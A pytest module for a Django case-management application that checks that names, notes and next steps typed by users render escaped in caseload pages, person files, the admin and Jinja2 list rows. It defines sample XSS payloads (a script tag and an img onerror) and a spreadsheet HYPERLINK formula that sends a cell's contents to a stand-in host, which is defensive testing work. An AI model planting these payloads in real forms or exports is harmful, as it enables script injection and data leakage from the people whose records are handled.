"""Markup and formulas typed into the application are shown inert in HTML pages."""

import re

import pytest
from django.urls import reverse

from tests.ftda.factories import (
    FollowUpFactory,
    MembershipFactory,
    PartnerFactory,
    PathwayFactory,
    PersonFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("https://exemple.invalid/vol?d="&A1;"Cliquez")'


@pytest.fixture
def file_with_markup():
    membership = MembershipFactory()
    person = PersonFactory(last_name=f"Haidari{SCRIPT}", first_names=IMG)
    PathwayFactory(person=person, structure=membership.structure)
    FollowUpFactory(
        person=person,
        structure=membership.structure,
        author=membership.user,
        note=f"Rendez-vous CAF {SCRIPT} {IMG}\n{FORMULA}",
        next_step=FORMULA,
    )
    return membership.user, person


# An escaped double quote: Django writes `&quot;`, the Jinja2 rows of long lists `&#34;`
# (ftda.jinja).
ESCAPED_QUOTE = "(?:&quot;|&#34;)"


def assert_inert(html):
    assert SCRIPT not in html and SCRIPT.upper() not in html
    assert "<img src=x" not in html
    # `onerror=` as escaped text only, never as an attribute.
    assert "onerror=" not in re.sub(f"onerror={ESCAPED_QUOTE}", "", html)
    assert "&lt;script&gt;" in html or "&lt;SCRIPT&gt;" in html


@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
def test_caseload_shows_names_and_next_steps_inert(client, file_with_markup, htmx):
    user, _ = file_with_markup
    client.force_login(user)
    headers = {"HX-Request": "true", "HX-Target": "caseload-results"} if htmx else {}
    html = client.get(reverse("ftda:caseload"), headers=headers).text
    assert_inert(html)
    # A formula is plain text in HTML: shown as typed, inside no link.
    assert re.search(f"=HYPERLINK\\({ESCAPED_QUOTE}https://exemple.invalid", html)
    assert 'href="https://exemple.invalid' not in html


def test_person_file_shows_notes_inert(client, file_with_markup):
    user, person = file_with_markup
    client.force_login(user)
    html = client.get(reverse("ftda:person_detail", args=[person.pk])).text
    assert_inert(html)
    assert "Rendez-vous CAF &lt;script&gt;" in html
    html = client.get(reverse("ftda:person_update", args=[person.pk])).text
    assert_inert(html)


def test_the_admin_shows_imported_values_inert(client):
    PartnerFactory(name=f"Mission Locale {SCRIPT}", contact_name=IMG)
    client.force_login(UserFactory(admin=True))
    html = client.get(reverse("admin:ftda_partner_changelist")).text
    assert_inert(html)


def _stay_of(person):
    from tests.hebergement.factories import StayFactory

    stay = StayFactory(person=person)
    return MembershipFactory(structure=stay.structure).user, reverse("hebergement:stay_list")


def _agir_pathway_of(person):
    from tests.agir.factories import AgirPathwayFactory, ReferentAssignmentFactory

    pathway = AgirPathwayFactory(person=person)
    membership = MembershipFactory(structure=pathway.platform)
    ReferentAssignmentFactory(pathway=pathway, user=membership.user)
    return membership.user, reverse("agir:caseload")


def _duo_of(person):
    from tests.programmes.factories import DuoFactory

    duo = DuoFactory(person=person, volunteer__last_name=f"Lefèvre{SCRIPT}")
    return MembershipFactory(structure=duo.programme).user, reverse("programmes:duo_list")


@pytest.mark.parametrize(
    "row_of", [_stay_of, _agir_pathway_of, _duo_of], ids=["stays", "agir", "duos"]
)
def test_the_rows_of_the_other_long_lists_show_names_inert(client, row_of):
    """Their rows are Jinja2 templates (ftda.jinja), autoescaped as Django's are."""
    user, url = row_of(PersonFactory(last_name=f"Haidari{SCRIPT}", first_names=IMG))
    client.force_login(user)
    html = client.get(url).text
    assert "HAIDARI&lt;SCRIPT&gt;" in html  # the row is there, escaped
    assert_inert(html)
